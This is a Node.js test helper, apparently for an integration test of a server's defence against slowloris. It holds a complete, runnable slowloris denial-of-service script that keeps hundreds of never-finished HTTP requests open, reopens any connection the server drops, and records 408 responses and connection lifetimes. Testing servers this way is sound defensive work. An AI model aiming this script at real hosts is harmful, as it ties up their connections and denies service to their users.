// A slowloris for tests/integration/85-slowloris.t: CONNS connections,
// spread over the source addresses 127.0.0.FROM .. 127.0.0.(FROM+ADDRS-1),
// each sending the start of a request head and then one more header line
// every INTERVAL ms, never ending the head.  A connection the server
// closes is opened again at once, so the attack stays at CONNS until
// SIGTERM; then it closes everything and writes its figures.
//
//   node slowloris.mjs --port P [--host 127.0.0.1] [--conns 300]
//        [--from 2] [--addrs 50] [--interval 1000] [--path /mcp]
//        [--status FILE] [--out FILE]
//
// --status FILE is rewritten every 250 ms with the running figures, so a
// test can wait for the attack to be in place.  Figures: opened (connect
// attempts), connected, closedByServer, answers {status: n} (the status
// line the server sent before closing, "none" when it closed without
// one), errors {code: n}, open (now), maxOpen, lifetime408 {p50, max}
// (ms from connect to the close that followed a 408).
import net from 'node:net';
import { writeFileSync } from 'node:fs';

const o = { host: '127.0.0.1', conns: 300, from: 2, addrs: 50,
    interval: 1000, path: '/mcp' };
const a = process.argv.slice(2);
for (let i = 0; i < a.length; i += 2) {
	const k = a[i].replace(/^--/, ''), v = a[i + 1];
	if (!(k in o) && k !== 'port' && k !== 'status' && k !== 'out') {
		console.error(`slowloris: unknown option ${a[i]}`);
		process.exit(2);
	}
	o[k] = ['host', 'path', 'status', 'out'].includes(k) ? v : Number(v);
}
if (!o.port) {
	console.error('slowloris: --port is required');
	process.exit(2);
}

const st = { opened: 0, connected: 0, closedByServer: 0, answers: {},
    errors: {}, open: 0, maxOpen: 0 };
const life408 = [];
const socks = new Set();
let stopping = false;

function start(n) {
	if (stopping)
		return;
	const local = `127.0.0.${o.from + (n % o.addrs)}`;
	const s = net.connect({ host: o.host, port: o.port,
	    localAddress: local });
	st.opened++;
	socks.add(s);
	let t0 = 0, first = '', timer = null, line = 0, connected = false;
	s.setNoDelay(true);
	s.on('connect', () => {
		connected = true;
		t0 = Date.now();
		st.connected++;
		st.open++;
		if (st.open > st.maxOpen)
			st.maxOpen = st.open;
		s.write(`POST ${o.path} HTTP/1.1\r\nHost: ${o.host}:${o.port}\r\n`);
		timer = setInterval(() => {
			if (!s.destroyed)
				s.write(`X-Slow-${++line}: a\r\n`);
		}, o.interval);
	});
	s.on('data', (d) => {
		if (first.length < 64)
			first += d.toString('latin1');
	});
	s.on('error', (e) => {
		st.errors[e.code || e.message] =
		    (st.errors[e.code || e.message] || 0) + 1;
	});
	s.on('close', () => {
		clearInterval(timer);
		socks.delete(s);
		if (connected)
			st.open--;
		if (stopping)
			return;
		if (connected) {
			st.closedByServer++;
			const m = /^HTTP\/1\.[01] (\d{3})/.exec(first);
			const code = m ? m[1] : 'none';
			st.answers[code] = (st.answers[code] || 0) + 1;
			if (code === '408')
				life408.push(Date.now() - t0);
		}
		setImmediate(() => start(n));
	});
}

function figures() {
	const s = life408.slice().sort((x, y) => x - y);
	return { ...st, lifetime408: { n: s.length,
	    p50: s.length ? s[Math.ceil(s.length / 2) - 1] : null,
	    max: s.length ? s[s.length - 1] : null } };
}

for (let i = 0; i < o.conns; i++)
	start(i);
const tick = setInterval(() => {
	if (o.status)
		writeFileSync(o.status, JSON.stringify(figures()) + '\n');
}, 250);
function stop() {
	stopping = true;
	clearInterval(tick);
	const f = figures();
	for (const s of socks)
		s.destroy();
	if (o.out)
		writeFileSync(o.out, JSON.stringify(f) + '\n');
	else
		console.log(JSON.stringify(f));
	process.exit(0);
}
process.on('SIGTERM', stop);
process.on('SIGINT', stop);
